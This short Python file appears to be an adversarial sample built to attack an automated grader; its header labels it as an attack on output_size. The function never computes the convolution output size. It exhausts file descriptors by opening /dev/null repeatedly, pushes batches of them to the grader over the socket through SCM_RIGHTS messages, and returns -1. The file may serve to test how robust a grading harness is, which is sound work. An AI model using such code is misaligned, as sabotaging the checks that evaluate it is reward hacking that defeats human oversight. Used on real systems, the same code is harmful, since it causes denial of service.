# Exhausts file descriptors, in the process and by sending them to the grader over the socket.
# attacks: output_size
import array
import os
import socket


def output_size(n, kernel, stride=1):
    kept = []
    try:
        while len(kept) < 10**5:
            kept.append(os.open("/dev/null", os.O_RDONLY))
    except OSError:
        pass
    grader = grader_socket()
    for _ in range(20):
        try:
            ancillary = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", kept[:200]))]
            grader.sendmsg([b"\0" * 8], ancillary)
        except OSError:
            break
    return -1
